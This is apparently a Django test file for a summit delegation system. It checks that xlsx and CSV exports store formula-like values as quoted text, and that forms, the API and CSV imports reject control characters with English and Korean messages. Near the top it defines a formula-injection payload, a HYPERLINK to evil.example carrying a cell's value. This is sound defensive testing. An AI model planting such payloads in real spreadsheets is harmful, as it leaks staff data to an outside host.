"""Exports that neither attack nor break the staff's spreadsheet; control characters refused
at input (form, API, CSV import) with a message in the reader's language."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from summitry.core.tokens import issue_token
from summitry.delegations import exchange, services
from summitry.delegations.models import Delegate
from summitry.directory.models import Person
from tests.conftest import ApiClient

from .conftest import member_data

ATTACK = '=HYPERLINK("http://evil.example/?"&C2,"Click")'


@pytest.fixture
def staff(organiser) -> ApiClient:
    return ApiClient(issue_token(user=organiser, name="tests")[1])


def members_url(delegation) -> str:
    return f"/summits/{delegation.summit.slug}/delegations/{delegation.pk}/members"


def test_formula_cells_are_text_in_the_workbook_and_quoted_in_the_csv(delegation, contact, staff):
    services.add_member(
        actor=contact,
        delegation=delegation,
        data=member_data(given_name=ATTACK, family_name="+1", hotel="@SUM(A1)", phone="-2"),
    )
    workbook = staff.get(f"/summits/{delegation.summit.slug}/exports/delegations.xlsx")
    assert workbook.status_code == 200
    sheet = load_workbook(io.BytesIO(workbook.content))["people"]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    for column, value in [
        ("given_name", ATTACK),
        ("family_name", "+1"),
        ("hotel", "@SUM(A1)"),
        ("phone", "-2"),
    ]:
        # The value is kept, stored as text with the quote prefix Excel sets for '=…
        assert (row[column].value, row[column].data_type, row[column].quotePrefix) == (
            value,
            "s",
            True,
        )
    assert (row["name_hangul"].value, row["name_hangul"].quotePrefix) == ("토리 화나우", False)

    people = staff.get(f"/summits/{delegation.summit.slug}/exports/people.csv")
    record = dict(zip(*csv.reader(io.StringIO(people.content.decode("utf-8-sig"))), strict=True))
    assert (record["given_name"], record["family_name"], record["hotel"], record["phone"]) == (
        "'" + ATTACK,
        "'+1",
        "'@SUM(A1)",
        "'-2",
    )


def test_exports_do_not_fail_on_control_characters_stored_before_the_rule(
    delegation, contact, staff
):
    member = services.add_member(actor=contact, delegation=delegation, data=member_data())
    # Rows written before the rule existed, straight into the table (PostgreSQL never took NUL).
    Person.objects.filter(pk=member.person_id).update(given_name="To\x0bry\x08")
    Delegate.objects.filter(pk=member.pk).update(hotel="\x1b[31mLotte")
    workbook = staff.get(f"/summits/{delegation.summit.slug}/exports/delegations.xlsx")
    assert workbook.status_code == 200
    sheet = load_workbook(io.BytesIO(workbook.content))["people"]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert (row["given_name"], row["hotel"]) == ("To\ufffdry\ufffd", "\ufffd[31mLotte")
    people = staff.get(f"/summits/{delegation.summit.slug}/exports/people.csv")
    assert people.status_code == 200
    assert "To\ufffdry\ufffd" in people.content.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("field", "value", "code"),
    [
        ("given_name", "Tory\x00", "U+0000"),
        ("family_name", "Wha\x0bnau", "U+000B"),
        ("hotel", "Lotte\nHotel", "U+000A"),
    ],
)
def test_the_api_refuses_control_characters_and_stores_nothing(
    delegation, organiser, field, value, code
):
    api = ApiClient(issue_token(user=organiser, name="tests")[1])
    body = {"given_name": "Tory", "family_name": "Whanau", field: value}
    response = api.post(members_url(delegation), body)
    assert response.status_code in (400, 422)
    errors = response.json()["errors"]
    assert any(code in message for message in errors[field]), errors
    assert not Delegate.objects.exists()


def test_the_message_is_in_korean_for_a_korean_reader(delegation, organiser):
    api = ApiClient(issue_token(user=organiser, name="tests")[1], language="ko")
    response = api.post(members_url(delegation), {"given_name": "To\x0bry"})
    assert response.status_code == 422
    assert response.json()["errors"]["given_name"] == [
        "저장할 수 없는 제어 문자(U+000B)가 들어 있습니다. 지우세요."
    ]


def test_the_member_form_refuses_a_vertical_tab_at_the_field(delegation, contact):
    client = Client()
    client.cookies["django_language"] = "en"
    client.force_login(contact)
    response = client.post(
        f"/forum/delegations/{delegation.pk}/",
        {"role": "head", "protocol_rank": "30", "given_name": "To\x0bry", "family_name": "W"},
    )
    assert response.status_code == 200
    assert (
        "This text contains a control character (U+000B) that cannot be stored: remove it."
        in response.content.decode()
    )
    assert not Delegate.objects.exists()


def test_the_csv_import_names_the_row_and_column_of_a_control_character(summit, organiser):
    data = (
        "slug,kind,name_en,name_ko,country\n"
        "kyiv,city,Kyiv,키이우,UA\n"
        "dublin,city,Dub\x0blin,더블린,IE\n"
        "nul\x00,city,Nul,널,KR\n"
    )
    result = exchange.import_contacts(
        actor=organiser, summit=summit, data=data.encode(), invite=False
    )
    assert [(p.row, p.column) for p in result.problems] == [(3, "name_en"), (4, "slug")]
    assert "U+000B" in result.problems[0].message
    assert result.organisations_created == 0


def test_a_csv_field_over_the_csv_modules_limit_is_a_problem_not_a_crash(summit, staff):
    data = "slug,kind,name_en,name_ko\nkyiv,city," + "K" * 200_000 + ",키이우\n"
    response = staff.client.post(
        f"/api/v1/summits/{summit.slug}/imports/contacts",
        {"file": SimpleUploadedFile("contacts.csv", data.encode()), "invite": "false"},
        headers=staff.headers,
    )
    assert response.status_code == 400
    assert response.json()["problems"] == [
        {
            "row": 2,
            "column": "",
            "message": "A value in this row is longer than 131,072 characters.",
        }
    ]
